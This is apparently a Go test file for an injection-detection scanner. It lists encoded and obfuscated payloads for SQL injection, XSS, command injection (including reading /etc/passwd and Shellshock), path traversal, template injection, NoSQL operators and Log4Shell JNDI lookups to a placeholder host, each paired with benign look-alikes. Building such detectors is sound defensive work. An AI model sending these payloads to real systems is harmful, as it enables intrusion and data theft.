package injection

import "testing"

// TestRules pins which rule each value triggers (None: allowed), per
// class, with the encodings attackers wrap payloads in and the benign
// look-alikes each rule must let through.
func TestRules(t *testing.T) {
	tests := []struct {
		v    string
		want rule
	}{
		// SQL injection
		{"' OR '1'='1", ruleSQLi},
		{"1 UNION SELECT null,null--", ruleSQLi},
		{"admin' #", ruleSQLi},
		{"admin'--", ruleSQLi},
		{"'; SHUTDOWN--", ruleSQLi},
		{"1 or true", ruleSQLi},
		{"1 WAITFOR DELAY '0:0:5'", ruleSQLi},
		{"%27%20OR%201%3D1--", ruleSQLi},
		{"%2527%2520OR%25201%3D1", ruleSQLi},
		{"&#39; OR &#39;a&#39;=&#39;a", ruleSQLi},
		{`\u0027 OR \u00271\u0027=\u00271`, ruleSQLi},
		{"O'Brien", ruleNone},
		{"select the best", ruleNone},
		{"drop me a line", ruleNone},
		{"It's either 'yes' or 'no'", ruleNone},
		{"if (a && b) { return x; }", ruleNone},
		{"x = 'abc';", ruleNone},
		{"Thread.sleep(1000)", ruleNone},

		// XSS
		{"<script>alert(1)</script>", ruleXSS},
		{"<scr<script>ipt>alert(1)</script>", ruleXSS},
		{"<img src=x onerror=alert(1)>", ruleXSS},
		{`" onmouseover="alert(1)`, ruleXSS},
		{"javascript:alert(1)", ruleXSS},
		{" JaVa\tScRiPt:alert(1)", ruleXSS},
		{"'-alert(document.domain)-'", ruleXSS},
		{"%3Csvg%20onload%3Dalert(1)%3E", ruleXSS},
		{"&lt;img src=x onerror=alert(1)&gt;", ruleXSS},
		{`\u003cscript\u003ealert(1)\u003c/script\u003e`, ruleXSS},
		{"%u003Cscript%u003Ealert(1)", ruleXSS},
		{`<div style="background:url(javascript:alert(1))">`, ruleXSS},
		{"＜script＞alert(1)＜/script＞", ruleXSS},
		{`<span style="color: red">warning</span>`, ruleNone},
		{`<?xml version="1.0" encoding="UTF-8"?>`, ruleNone},
		{"<p>Hello <b>world</b></p>", ruleNone},
		{"a < b and c > d", ruleNone},
		{"1 < 2 and 3 > 2", ruleSQLi},
		{"https://example.com/?q=shoes&page=2", ruleNone},
		{"see the javascript: prefix", ruleNone},
		{"alert('Saved!')", ruleNone},

		// command injection
		{"; id", ruleCmd},
		{"|id", ruleCmd},
		{"`whoami`", ruleCmd},
		{"$(sleep 5)", ruleCmd},
		{"&& cat /etc/passwd", ruleTraversal},
		{"; c'a't /tmp/x", ruleCmd},
		{";cat${IFS}/tmp/x", ruleCmd},
		{"%0Aid", ruleCmd},
		{";/???/c?t /tmp/x", ruleCmd},
		{"{cat,/tmp/x}", ruleCmd},
		{"() { :; }; /bin/bash -c id", ruleCmd},
		{";${PATH:0:1}bin${PATH:0:1}id", ruleCmd},
		{"| net user", ruleCmd},
		{"127.0.0.1; ping -c 3 x", ruleCmd},
		{"cat lovers welcome; dogs too", ruleNone},
		{"dogs; cat lovers", ruleNone},
		{"Tom & Jerry", ruleNone},
		{"yes; no; maybe", ruleNone},
		{"ping me when you're free", ruleNone},
		{"func main() { fmt.Println(1) }", ruleNone},
		{"id: 12345", ruleNone},
		{"pets: {cat, dog}", ruleNone},

		// path traversal
		{"../../etc/passwd", ruleTraversal},
		{`..\..\windows\win.ini`, ruleTraversal},
		{"..%2f..%2fsecret", ruleTraversal},
		{"%252e%252e%252fsecret", ruleTraversal},
		{"..%c0%af..%c0%afsecret", ruleTraversal},
		{"%c0%ae%c0%ae/secret", ruleTraversal},
		{"．．／secret", ruleTraversal},
		{"..%u2215secret", ruleTraversal},
		{"..;/admin", ruleTraversal},
		{"..%00/x", ruleTraversal},
		{"a/..", ruleTraversal},
		{"..", ruleTraversal},
		{"file:///etc/hosts", ruleTraversal},
		{"/proc/self/environ", ruleTraversal},
		{"docs/readme.md", ruleNone},
		{"Wait... what?", ruleNone},
		{"v1.2.3", ruleNone},
		{"1..10", ruleNone},
		{`C:\Users\alice\Documents`, ruleNone},

		// template injection
		{"{{7*7}}", ruleSSTI},
		{"${7*7}", ruleSSTI},
		{"#{7*7}", ruleSSTI},
		{"<%= 7*7 %>", ruleSSTI},
		{"{{config.items()}}", ruleSSTI},
		{"{{''.__class__.__mro__}}", ruleSSTI},
		{"${T(java.lang.Runtime).getRuntime()}", ruleSSTI},
		{"<#assign ex=\"freemarker.template.utility.Execute\"?new()>", ruleSSTI},
		{"{{['id']|filter('system')}}", ruleSSTI},
		{"${{<%[%'\"}}%\\.", ruleSSTI},
		{"%7B%7B7*7%7D%7D", ruleSSTI},
		{"Hello {{name}}, order {{order.id}}", ruleNone},
		{"Total: ${amount}", ruleNone},
		{"{{#each items}}{{this}}{{/each}}", ruleNone},
		{"#{count} items", ruleNone},
		{"T(n) = O(n log n)", ruleNone},

		// NoSQL operators in values (names: TestOperatorKeys)
		{`{"$ne": null}`, ruleNoSQL},
		{`{$where: 'sleep(100)'}`, ruleNoSQL},
		{"[$regex]=a.*", ruleNoSQL},
		{"%7B%22%24gt%22%3A%22%22%7D", ruleNoSQL},
		{"$5 off", ruleNone},
		{"The $in operator matches", ruleNone},
		{"$ne is not a word", ruleNone},

		// JNDI
		{"${jndi:ldap://x/a}", ruleJNDI},
		{"${${lower:j}ndi:ldap://x/a}", ruleJNDI},
		{"${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}", ruleJNDI},
		{"${${env:X:-j}ndi${env:X:-:}ldap://x}", ruleJNDI},
		{"${${date:'j'}ndi:dns://x}", ruleJNDI},
		{"${JnDi:ldap://x}", ruleJNDI},
		{"%24%7Bjndi:ldap://x%7D", ruleJNDI},
		{`\u0024\u007bjndi:ldap://x\u007d`, ruleJNDI},
		{"&#36;&#123;jndi:ldap://x&#125;", ruleJNDI},
		{"Log4j ${jndi} explained", ruleNone},
		{"${HOME}/bin", ruleNone},
	}
	sc := &scanner{}
	for _, tt := range tests {
		if got := sc.judge(tt.v); got != tt.want {
			t.Errorf("judge(%q) = %q, want %q", tt.v, got, tt.want)
		}
	}
}

func TestOperatorKeys(t *testing.T) {
	for k, want := range map[string]bool{
		"$where": true, "$ne": true, "user[$ne]": true, "a[b][$gt]": true, "$type": true,
		"$schema": false, "$ref": false, "$id": false, "$5": false, "price": false, "$": false,
		"tags[]": false, "a[b]": false,
	} {
		if got := isOperatorKey(k); got != want {
			t.Errorf("isOperatorKey(%q) = %v, want %v", k, got, want)
		}
	}
}

func TestRuleString(t *testing.T) {
	for r, want := range map[rule]string{ruleSQLi: "sqli", ruleXSS: "xss", ruleCmd: "cmdi", ruleTraversal: "traversal",
		ruleSSTI: "ssti", ruleNoSQL: "nosql", ruleJNDI: "jndi", ruleNone: "", rule(200): "unknown"} {
		if r.String() != want {
			t.Errorf("%d.String() = %q, want %q", r, r.String(), want)
		}
	}
}
